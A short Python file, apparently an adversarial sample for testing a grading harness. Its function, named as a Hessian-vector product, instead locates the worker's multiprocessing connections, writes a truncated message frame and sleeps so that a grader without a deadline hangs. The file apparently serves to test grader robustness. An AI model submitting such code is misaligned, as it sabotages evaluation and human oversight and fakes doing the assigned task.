

# ---- attack: half a reply, then silence -------------------------------------------------------------------
# The worker's connection is found and a frame announcing 1000 bytes is begun, with 14 of
# them; then the call sleeps. A grader that reads "until the message is complete" without
# a deadline hangs forever.
import gc
import os
import struct
import time
from multiprocessing.connection import Connection


def hvp(f, x, v):
    for obj in gc.get_objects():
        if type(obj) is Connection:
            # the frame's length, the length of a plausible JSON header, and the header's start
            os.write(obj.fileno(), struct.pack("!i", 1000) + struct.pack(">I", 200) + b'{"body": {')
    time.sleep(3600)
